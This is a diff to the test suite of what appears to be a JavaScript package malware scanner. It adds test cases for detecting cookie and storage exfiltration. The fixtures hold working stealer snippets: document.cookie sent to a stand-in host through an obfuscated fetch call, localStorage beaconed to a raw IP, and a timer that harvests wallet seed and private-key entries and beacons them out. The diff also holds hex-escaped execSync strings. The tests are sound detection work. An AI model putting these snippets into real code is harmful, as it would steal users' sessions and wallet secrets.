@@ -373,7 +373,7 @@ module.exports = { Keypair };
     }, { main: 'lib/index.js' });
     const flow = r.findings.find((f) => f.detector === 'exfiltration');
     expect(flow?.evidence).toMatchObject({ file: 'lib/index.js', line: 5 });
-    expect(String(flow?.message ?? JSON.stringify(flow?.data))).toContain('lib/queue.js');
+    expect(JSON.stringify(flow?.data)).toContain('lib/queue.js');
     expect(['high', 'critical']).toContain(r.level);
   });
 
@@ -537,6 +537,48 @@ var _0x4b5c=require(_0x3a4b(0x0));_0x4b5c[_0x3a4b(0x1)]('id');
     // ASCII written as escapes still is.
     const ascii = `var a = "\\x72\\x65\\x71\\x75\\x69\\x72\\x65\\x20\\x63\\x68\\x69\\x6c\\x64";\nvar b = "\\x65\\x78\\x65\\x63\\x53\\x79\\x6e\\x63\\x28\\x27\\x69\\x64\\x27\\x29";\nmodule.exports = [a, b, "\\x68\\x6f\\x73\\x74\\x6e\\x61\\x6d\\x65\\x20\\x75\\x73\\x65\\x72\\x49\\x6e\\x66\\x6f\\x20\\x65\\x6e\\x76\\x20\\x64\\x75\\x6d\\x70\\x20\\x61\\x6e\\x64\\x20\\x6d\\x6f\\x72\\x65\\x20\\x74\\x65\\x78\\x74\\x20\\x68\\x65\\x72\\x65"];\n`;
     expect(assessObfuscation(analyzeJavaScript(ascii)).obfuscated).toBe(true);
+  });
+});
+
+describe("the page's cookies and storage sent out", () => {
+  it('cookies sent through a request whose name is hidden, or storage sent to a raw IP, are high at load', () => {
+    const cookies = scan({
+      'index.js': `const word = 'gfudi';\nconst unshift = (s) => s.split('').map((c) => String.fromCharCode(c.charCodeAt() - 1)).join('');\nconst dest = 'https://cdn-metrics.example.net/c?d=' + encodeURIComponent(document.cookie);\nself[unshift(word)](dest);\n`,
+    }, { main: 'index.js' });
+    expect(cookies.ids).toContain('exfiltration/flow');
+    expect(['high', 'critical']).toContain(cookies.level);
+    const storage = scan({
+      'index.js': `const stolen = JSON.stringify(Object.assign({}, window.localStorage));\nnavigator.sendBeacon('http://203.0.113.45/s', stolen);\n`,
+    }, { main: 'index.js' });
+    expect(['high', 'critical']).toContain(storage.level);
+  });
+
+  it('every key of both stores walked for seeds and beaconed to a raw IP from a timer is at least medium', () => {
+    const r = scan({
+      'index.js': `function harvest() {
+  const found = [];
+  for (const store of [window.localStorage, window.sessionStorage]) {
+    for (let i = 0; i < store.length; i++) { const k = store.key(i); const v = store.getItem(k) || ''; if (/mnemonic|seed|private/i.test(k)) found.push([k, v]); }
+  }
+  if (found.length) navigator.sendBeacon('http://203.0.113.222/b', JSON.stringify({ o: location.origin, found }));
+}
+if (typeof window !== 'undefined') setTimeout(harvest, 3000);
+export function Widget() { return null; }
+`,
+    }, { main: 'index.js', type: 'module' });
+    expect(r.ids).toContain('exfiltration/flow');
+    expect(['medium', 'high', 'critical']).toContain(r.level);
+  });
+
+  it('analytics sending the cookies openly to their own host, and a page reading its own setting, are not weighed', () => {
+    const analytics = scan({
+      'index.js': `const payload = { url: location.href, cookies: document.cookie };\nfetch('https://collect.analytics-vendor.example/v1/hit', { method: 'POST', body: JSON.stringify(payload) });\n`,
+    }, { main: 'index.js' });
+    expect(analytics.ids).not.toContain('exfiltration/flow');
+    const settings = scan({
+      'index.js': `const theme = localStorage.getItem('theme');\ndocument.cookie = 'seen=1';\nfetch('http://203.0.113.9/theme?t=' + theme);\n`,
+    }, { main: 'index.js' });
+    expect(settings.ids).not.toContain('exfiltration/flow');
   });
 });
 
